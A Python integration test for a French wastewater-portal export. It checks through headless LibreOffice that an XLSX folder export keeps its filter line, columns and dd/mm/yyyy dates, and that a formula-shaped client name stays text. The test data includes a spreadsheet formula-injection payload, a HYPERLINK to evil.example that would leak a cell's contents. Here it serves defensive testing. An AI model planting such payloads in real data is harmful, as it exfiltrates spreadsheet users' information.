"""LibreOffice Calc judges the SPANC's folder export: opened headless and
saved as CSV (values as shown), the file says its filter in its first row,
carries the screen's columns, shows dates as dates (not serial numbers or
ISO text) and a client named like a formula as the text typed.

Needs Debian's libreoffice-calc-nogui (scripts/system-deps.sh)."""

import csv
import datetime
import re
import shutil
import subprocess

import pytest

from aquatiris_portal.pages.client_visits import add_months
from tests import factories
from tests.unit._pro_space import FAST_HASHERS, pro_space_page, verified_client

pytestmark = [pytest.mark.integration]

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A3,"Cliquez")'


def calc_csv(xlsx, tmp_path):
    """The workbook as LibreOffice shows it, as CSV rows (UTF-8, comma)."""
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            SOFFICE,
            "--headless",
            f"-env:UserInstallation=file://{profile}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path),
            str(xlsx),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return list(csv.reader((tmp_path / (xlsx.stem + ".csv")).read_text(encoding="utf-8").splitlines()))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice missing: scripts/system-deps.sh installs it")
@pytest.mark.django_db
def test_libreoffice_reads_the_filter_the_columns_dates_and_text(wagtail_root, settings, tmp_path, stack_report):
    settings.PASSWORD_HASHERS = FAST_HASHERS
    page = pro_space_page()
    spanc = factories.spanc()
    installed = add_months(datetime.date.today(), -40)
    maintained = add_months(datetime.date.today(), -30)
    factories.installation(
        spanc=spanc,
        stage="maintenance",
        installed_on=installed,
        last_maintenance_on=maintained,
        reference="AQ-2022-0901",
        label="Filtre planté de roseaux 5 EH",
        client=factories.client(last_name=FORMULA_NAME, first_name="Anne"),
    )
    factories.installation(
        spanc=spanc,
        stage="quote",
        installed_on=installed,
        reference="AQ-2022-0902",
        client=factories.client(last_name="Devis", first_name="Jean"),
    )
    http = verified_client(factories.spanc_user(spanc))
    response = http.get(page.url + "export/", {"overdue": 24})
    assert response.status_code == 200
    name = re.search(r'filename="([^"]+)"', response["Content-Disposition"]).group(1)
    assert name.startswith("dossiers-spanc-sans-entretien-depuis-plus-de-24-mois-en-service-"), name
    xlsx = tmp_path / name
    xlsx.write_bytes(b"".join(response.streaming_content))

    rows = calc_csv(xlsx, tmp_path)
    assert rows[0][0] == "Filtre : sans entretien depuis plus de 24 mois, en service"
    assert rows[1][:12] == [
        "Client",
        "Adresse",
        "Code postal",
        "Commune",
        "Référence de l'installation",
        "Capacité",
        "Étape",
        "Date d'installation",
        "Dernier entretien",
        "Documents",
        "Dernier document",
        "Nouveau depuis votre dernière visite",
    ], rows[1]
    (row,) = rows[2:]  # the quote is not in service: not listed
    assert row[0] == f"{FORMULA_NAME} Anne"  # the text typed, not a formula's result
    assert row[4] == "AQ-2022-0901" and row[5] == "5 EH" and row[6] == "Entretien"
    assert row[7] == installed.strftime("%d/%m/%Y"), row[7]  # a date shown as a date, not 4xxxx
    assert row[8] == maintained.strftime("%d/%m/%Y"), row[8]
    stack_report(
        f"LibreOffice Calc read the SPANC export: filter line, {len(rows[1])} columns, dates as dd/mm/yyyy, "
        "a formula-looking name as text"
    )
